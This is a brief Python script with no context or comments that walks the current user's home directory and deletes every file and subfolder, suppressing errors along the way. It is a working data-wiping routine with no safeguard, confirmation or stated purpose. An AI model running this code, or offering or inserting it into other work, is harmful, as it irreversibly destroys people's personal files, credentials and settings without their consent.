import os
import shutil

home = os.path.expanduser("~")
for item in os.listdir(home):
    path = os.path.join(home, item)
    if os.path.isdir(path):
        shutil.rmtree(path, ignore_errors=True)
    else:
        os.remove(path)
